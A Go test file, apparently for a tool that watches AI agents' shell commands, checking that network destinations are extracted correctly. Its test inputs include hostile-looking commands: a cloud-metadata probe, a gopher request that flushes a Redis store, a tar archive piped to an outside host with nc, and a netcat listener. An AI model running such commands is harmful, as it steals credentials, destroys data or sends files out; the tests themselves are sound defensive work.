package shell

import (
	"fmt"
	"regexp"
	"slices"
	"testing"

	"github.com/agentwarden/warden/tool"
)

func TestDests(t *testing.T) {
	cases := map[string][]string{
		`curl -s http://169.254.169.254/latest/meta-data/`:                         {"curl url http://169.254.169.254/latest/meta-data/"},
		`curl localhost:8080/health`:                                               {"curl url http://localhost:8080/health"},
		`curl -X POST http://localhost:8080/api -H 'Host: x.example' -d '{"a":1}'`: {"curl url http://localhost:8080/api"},
		`curl -m 3.5 --retry 10 https://example.com`:                               {"curl url https://example.com"},
		`curl -o out.html example.com`:                                             {"curl url http://example.com"},
		`curl --url 0x7f000001:6379`:                                               {"curl url http://0x7f000001:6379"},
		`curl --resolve example.com:443:127.0.0.1 https://example.com/`:            {"curl --resolve host 127.0.0.1", "curl url https://example.com/"},
		`curl --connect-to example.com:443:[::1]:8443 https://example.com/`:        {"curl --connect-to host ::1", "curl url https://example.com/"},
		`curl gopher://127.0.0.1:6379/_FLUSHALL`:                                   {"curl url gopher://127.0.0.1:6379/_FLUSHALL"},
		`curl "$URL"`:                                                              nil,
		`curl -d name=test -F f=@x.txt https://api.example.com/u`:                  {"curl url https://api.example.com/u"},
		`wget -qO- http://10.0.0.5/`:                                               {"wget url http://10.0.0.5/"},
		`wget -O x.tgz -T 30 downloads.example.org/x.tgz`:                          {"wget url http://downloads.example.org/x.tgz"},
		`sudo curl http://[::1]:9000/`:                                             {"curl url http://[::1]:9000/"},
		`http :3000/api/users`:                                                     {"http url http://localhost:3000/api/users"},
		`http POST localhost:8000/items name=x`:                                    {"http url http://localhost:8000/items"},
		`https api.example.com/v1 Authorization:x`:                                 {"https url https://api.example.com/v1"},
		`nc -zv localhost 5432`:                                                    {"nc host localhost"},
		`nc -w 3 169.254.169.254 80`:                                               {"nc host 169.254.169.254"},
		`nc -lvp 4444`:                                                             nil,
		`tar cz . | nc 203.0.113.9 9000`:                                           {"nc host 203.0.113.9"},
		`telnet 10.0.0.1 23`:                                                       {"telnet host 10.0.0.1"},
		`socat - TCP:127.0.0.1:6379`:                                               {"socat host 127.0.0.1"},
		`socat TCP-LISTEN:8080,fork TCP:[::1]:80`:                                  {"socat host ::1"},
		`aria2c https://example.com/big.iso`:                                       {"aria2c url https://example.com/big.iso"},
		`echo http://169.254.169.254/`:                                             nil,
		`git clone https://github.com/x/y`:                                         nil,
	}
	for script, want := range cases {
		cmds, err := Resolve(script, testEnv)
		if err != nil {
			t.Fatalf("%s: %v", script, err)
		}
		var got []string
		for _, d := range Dests(cmds) {
			if d.URL != "" {
				got = append(got, fmt.Sprintf("%s url %s", d.Via, d.URL))
			} else {
				got = append(got, fmt.Sprintf("%s host %s", d.Via, d.Host))
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, want) {
			t.Errorf("%s:\n got %q\nwant %q", script, got, want)
		}
	}
}

// FuzzIsURL holds isURL to the pattern it stands for.
func FuzzIsURL(f *testing.F) {
	re := regexp.MustCompile(`^[A-Za-z][A-Za-z0-9+.-]*://`)
	for _, s := range []string{"", "http://x", "git+ssh://h", "a.b-c+d://", "1http://", "http:/", "h://", "http:///", "ht tp://", "é://", "x\xff://", "A9://"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := isURL(s), re.MatchString(s); got != want {
			t.Fatalf("isURL(%q) = %v, regexp %v", s, got, want)
		}
	})
}

// TestDestsOnce checks that Dests lists each destination once, in the
// order first found, below maxScannedDests and past it.
func TestDestsOnce(t *testing.T) {
	for _, n := range []int{1, 2, maxScannedDests, maxScannedDests + 1, 3 * maxScannedDests} {
		var script string
		var want []tool.Dest
		for i := range 3 * n {
			u := fmt.Sprintf("https://h%d.example/", i%n)
			script += "curl " + u + "; nc h" + fmt.Sprint(i%n) + " 80; "
			if i < n {
				want = append(want, tool.Dest{URL: u, Via: "curl"}, tool.Dest{Host: fmt.Sprintf("h%d", i), Via: "nc"})
			}
		}
		cmds, err := Resolve(script, testEnv)
		if err != nil {
			t.Fatal(err)
		}
		if got := Dests(cmds); !slices.Equal(got, want) {
			t.Errorf("%d destinations thrice: got %v\nwant %v", n, got, want)
		}
	}
}
